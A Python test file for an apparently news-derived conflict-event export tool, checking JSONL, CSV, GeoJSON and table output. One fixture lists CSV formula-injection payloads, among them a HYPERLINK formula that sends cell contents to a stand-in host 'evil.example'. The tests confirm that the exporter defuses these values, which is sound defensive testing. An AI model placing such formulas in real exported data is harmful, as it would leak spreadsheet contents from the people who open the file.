from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from frontwire import cli, export
from frontwire.model import EVENT_FIELDS, Event, Evidence
from frontwire.store import Store
from frontwire.web import create_app
from test_store import article, event
from test_web_api import TestClient, singleton_clusters


def _event(**changes: object) -> Event:
    base: dict[str, object] = {
        "event_id": "abc", "article_id": "art", "event_date": "2020-07-12", "event_date_end": "2020-07-12",
        "time_precision": 1, "event_type": "Explosions/Remote violence",
        "sub_event_type": "Shelling/artillery/missile attack", "plover_type": "ASSAULT",
        "actor1": "Military Forces of Armenia", "actor1_iso3": "ARM", "actor2": "Military Forces of Azerbaijan",
        "actor2_iso3": "AZE", "country": "Azerbaijan", "iso3": "AZE", "admin1": "Tovuz", "admin2": None, "location": "Tovuz",
        "latitude": 40.99, "longitude": 45.63, "geonames_id": 585170, "geo_precision": 1, "fatalities": 13,
        "deaths_actor1": None, "deaths_actor2": 12, "deaths_civilians": 1, "deaths_unknown": None, "status": "reported",
        "attributed_to": None, "source": "news.example.org", "url": "https://news.example.org/x", "published": "2020-09-16",
        "notes": "On 12 July 2020, ...", "evidence": [Evidence("Armenian forces shelled.", 10, 34)], "confidence": 0.9}
    base.update(changes)
    return Event(**base)  # type: ignore[arg-type]


def test_jsonl_round_trips_every_field() -> None:
    out = io.StringIO()
    assert export.write([_event()], "jsonl", out) == 1
    record = json.loads(out.getvalue())
    assert tuple(record) == EVENT_FIELDS
    assert record["evidence"] == [{"text": "Armenian forces shelled.", "start": 10, "end": 34}]


def test_csv_uses_acled_column_names() -> None:
    out = io.StringIO()
    export.write([_event(), _event(event_id="def", admin1=None)], "csv", out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows[0]["event_id_cnty"] == "abc"
    assert rows[0]["year"] == "2020"
    assert rows[0]["fatalities"] == "13"
    assert rows[1]["admin1"] == ""
    assert json.loads(rows[0]["evidence"])[0]["start"] == 10


def test_geojson_keeps_only_located_events() -> None:
    out = io.StringIO()
    n = export.write([_event(), _event(event_id="x", latitude=None, longitude=None)], "geojson", out)
    collection = json.loads(out.getvalue())
    assert n == 1 and collection["type"] == "FeatureCollection"
    feature = collection["features"][0]
    assert feature["geometry"] == {"type": "Point", "coordinates": [45.63, 40.99]}
    assert feature["properties"]["fatalities"] == 13


def test_table_shows_each_event_and_its_notes() -> None:
    out = io.StringIO()
    export.write([_event(), _event(event_type=None, sub_event_type=None, plover_type="THREATEN")], "table", out)
    text = out.getvalue()
    assert "Shelling/artillery/missile" in text and "(THREATEN)" in text
    assert text.count("On 12 July 2020") == 2


# --- formulas in CSV: the CLI's file and the API's export, one writer -----------------------------

# Text an article could carry into a field that a spreadsheet would run (OWASP's CSV injection).
FORMULAS = {
    "actor1": '=HYPERLINK("http://evil.example/?leak="&A1,"details")',
    "actor2": "@SUM(A1:A9)",
    "notes": "+1 more soldier died later in hospital",
    "source": "-2+3",
    "attributed_to": "\t=1+1",
    "location": "\rTovuz",
}


def _formula_store(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'formulas.sqlite'}"
    with Store.open(url) as store:
        a, b = article(1), article(2)
        store.add_article(a, [event(a.article_id, 0, latitude=-3.2, longitude=-60.02, fatalities=4, **FORMULAS)])
        store.add_article(b, [event(b.article_id, 0, event_date="2020-07-13", notes="Shelling near Tovuz")])
        singleton_clusters(store)
    return url


def _cli_csv(capsys: pytest.CaptureFixture[str], url: str) -> str:
    capsys.readouterr()
    assert cli.main(["events", "--db", url, "--format", "csv"]) == 0
    return capsys.readouterr().out


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_cli_csv_defuses_formulas_and_keeps_negative_numbers(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    rows = list(csv.DictReader(io.StringIO(_cli_csv(capsys, _formula_store(tmp_path)), newline="")))
    assert len(rows) == 2
    row = rows[0]
    for field, text in FORMULAS.items():  # read back as a spreadsheet reads it: the apostrophe makes it text
        assert row[field] == "'" + text, field
    assert (row["latitude"], row["longitude"], row["fatalities"]) == ("-3.2", "-60.02", "4")
    assert rows[1]["notes"] == "Shelling near Tovuz"  # plain text is left alone
    for r in rows:  # no cell a spreadsheet would run: a cell starting so is a number
        assert all(_is_number(v) for v in r.values() if v.startswith(export.FORMULA_START)), r


def test_api_csv_is_the_cli_csv_without_the_evidence(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """The API's records carry no evidence sentences; every other column is the same, byte for byte."""
    url = _formula_store(tmp_path)
    cli_rows = list(csv.reader(io.StringIO(_cli_csv(capsys, url), newline="")))
    with TestClient(create_app(url)) as c:
        api_text = c.get("/api/events", params={"format": "csv", "all": "true"}).text
    at = cli_rows[0].index("evidence")
    expected = io.StringIO()
    csv.writer(expected).writerows(r[:at] + r[at + 1:] for r in cli_rows)
    assert api_text == expected.getvalue()
    header = next(csv.reader(io.StringIO(api_text)))
    assert header[-6:] == ["cluster_id", "n_reports", "report_fatalities", "fatalities_rule", "review_status",
                           "review_edited"]
